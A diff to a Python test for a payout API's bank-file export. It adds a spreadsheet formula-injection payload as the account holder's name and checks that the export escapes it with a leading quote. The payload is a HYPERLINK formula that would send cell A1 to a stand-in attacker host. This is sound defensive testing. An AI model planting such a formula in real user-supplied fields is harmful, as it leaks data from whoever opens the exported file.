@@ -204,6 +204,9 @@ def _payout(client: Any, worker: Any, amount: int, key: str) -> Any:
     )
 
 
+FORMULA_HOLDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Ana Worker")'
+
+
 def test_payouts_from_request_to_bank_file(app_client: Any) -> None:
     worker = _earn(app_client)
     problem(_payout(app_client, worker, 1_500, "p0"), 409, "payout_details_missing")
@@ -213,9 +216,10 @@ def test_payouts_from_request_to_bank_file(app_client: Any) -> None:
         headers=worker.headers,
     )
     problem(bad, 422, "invalid_iban")
+    # The holder's name is the worker's own text: it must not run as a formula in the bank file.
     good = app_client.put(
         "/api/v1/me/payout-details",
-        json={"account_holder": "Ana Worker", "iban": IBAN},
+        json={"account_holder": FORMULA_HOLDER, "iban": IBAN},
         headers=worker.headers,
     )
     assert good.status_code == 200
@@ -253,7 +257,7 @@ def test_payouts_from_request_to_bank_file(app_client: Any) -> None:
     assert rows == [
         {
             "end_to_end_id": str(payout.id),
-            "creditor_name": "Ana Worker",
+            "creditor_name": "'" + FORMULA_HOLDER,
             "creditor_iban": IBAN,
             "amount": "20.00",
             "currency": "EUR",
